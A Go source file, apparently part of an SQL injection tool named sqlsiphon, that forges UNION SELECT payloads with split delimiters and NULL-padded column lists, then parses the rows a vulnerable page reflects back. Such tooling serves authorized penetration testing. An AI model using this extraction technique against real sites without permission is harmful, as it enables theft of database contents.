// Package union builds UNION query payloads and parses the rows they reflect
// into the page.
//
// Every reflected row is wrapped in a start and a stop delimiter, and the
// fields of a row are separated by a field delimiter:
//
//	<start>field1<field>field2<stop>
//
// Fields are cast to text with a NULL-safe cast so a NULL field does not
// blank the whole row. Delimiter literals are split in two inside the payload
// so a page that echoes the payload back is not mistaken for output.
package union

import (
	"regexp"
	"slices"
	"strings"

	"github.com/0x6d61/sqlsiphon/internal/dbms"
	"github.com/0x6d61/sqlsiphon/internal/sqlexpr"
	"github.com/0x6d61/sqlsiphon/internal/technique"
)

// nullCell is what a NULL-safe cast yields for NULL.
const nullCell = " "

// Delimiters mark reflected rows and separate their fields.
type Delimiters struct {
	Start string
	Stop  string
	Field string
}

// DefaultField is the field delimiter used when none is configured.
const DefaultField = "qxsiphonq"

// Builder forges UNION queries for one back-end.
type Builder struct {
	dbms    dbms.DBMS
	dialect *dbms.Dialect
	delims  Delimiters
}

// NewBuilder creates a Builder. A nil d falls back to MySQL syntax.
func NewBuilder(d dbms.DBMS, delims Delimiters) *Builder {
	if d == nil {
		d = dbms.Registry("MySQL")
	}
	if delims.Field == "" {
		delims.Field = DefaultField
	}
	return &Builder{dbms: d, dialect: dbms.LookupDialect(d.Name()), delims: delims}
}

// Delimiters returns the delimiters the builder wraps rows in.
func (b *Builder) Delimiters() Delimiters {
	return b.delims
}

// Query returns the vector to render and the text that replaces its
// [QUERY] marker. When expression carries its own FROM clause, the returned
// vector drops any FROM the template appends after the marker.
func (b *Builder) Query(v *technique.Vector, expression string) (*technique.Vector, string) {
	fields, from := b.split(expression)

	parts := make([]string, 0, 2*len(fields)+3)
	parts = append(parts, b.literal(b.delims.Start)...)
	for i, f := range fields {
		if i > 0 {
			parts = append(parts, b.literal(b.delims.Field)...)
		}
		parts = append(parts, b.dialect.NullCastText(f))
	}
	parts = append(parts, b.literal(b.delims.Stop)...)

	query := buildColumnList(v.Columns, v.Position, b.dbms.Concatenate(parts...))
	if from == "" {
		return v, query
	}

	out := *v
	out.Template = trimTemplateFrom(v.Template)
	return &out, query + " " + from
}

// split returns the fields of expression and its clauses from FROM on.
func (b *Builder) split(expression string) ([]string, string) {
	expression = strings.TrimSpace(expression)
	if !sqlexpr.IsSelect(expression) {
		return []string{expression}, ""
	}
	set := sqlexpr.Fields(expression)
	fields := set.List
	if b.dialect.Opaque(expression) || len(fields) == 0 {
		fields = []string{set.Raw}
	}
	idx := strings.Index(expression[len("SELECT"):], set.Raw)
	if idx < 0 {
		return fields, ""
	}
	return fields, strings.TrimSpace(expression[len("SELECT")+idx+len(set.Raw):])
}

// literal returns s as two quoted halves.
func (b *Builder) literal(s string) []string {
	if len(s) < 2 {
		return []string{b.dbms.QuoteString(s)}
	}
	half := len(s) / 2
	return []string{b.dbms.QuoteString(s[:half]), b.dbms.QuoteString(s[half:])}
}

// buildColumnList returns a comma-joined column list for UNION SELECT with
// expr at position and NULL everywhere else. A position outside the list
// places expr first.
func buildColumnList(columns, position int, expr string) string {
	if columns < 1 {
		columns = 1
	}
	if position < 0 || position >= columns {
		position = 0
	}
	cols := make([]string, columns)
	for i := range cols {
		cols[i] = "NULL"
	}
	cols[position] = expr
	return strings.Join(cols, ",")
}

var templateFrom = regexp.MustCompile(`(?i)(\[QUERY\])\s+FROM\s+\S+`)

func trimTemplateFrom(template string) string {
	return templateFrom.ReplaceAllString(template, "$1")
}

// ParsePage extracts the delimited rows reflected into page. With partial
// set, a row whose stop delimiter was cut off is kept. With sorted set,
// duplicate rows are dropped and the rest sorted, which restores the
// DISTINCT semantics stripped from the query. A NULL field yields "".
func ParsePage(page string, delims Delimiters, partial, sorted bool) [][]string {
	if delims.Start == "" || delims.Stop == "" {
		return nil
	}
	if delims.Field == "" {
		delims.Field = DefaultField
	}

	var raw []string
	rest := page
	for {
		i := strings.Index(rest, delims.Start)
		if i < 0 {
			break
		}
		rest = rest[i+len(delims.Start):]
		j := strings.Index(rest, delims.Stop)
		if j < 0 {
			if partial && rest != "" {
				raw = append(raw, rest)
			}
			break
		}
		raw = append(raw, rest[:j])
		rest = rest[j+len(delims.Stop):]
	}

	rows := make([][]string, 0, len(raw))
	for _, r := range raw {
		cells := strings.Split(r, delims.Field)
		for i, c := range cells {
			if c == nullCell {
				cells[i] = ""
			}
		}
		rows = append(rows, cells)
	}
	if !sorted {
		return rows
	}

	slices.SortStableFunc(rows, func(a, b []string) int {
		return slices.Compare(a, b)
	})
	return slices.CompactFunc(rows, func(a, b []string) bool {
		return slices.Equal(a, b)
	})
}
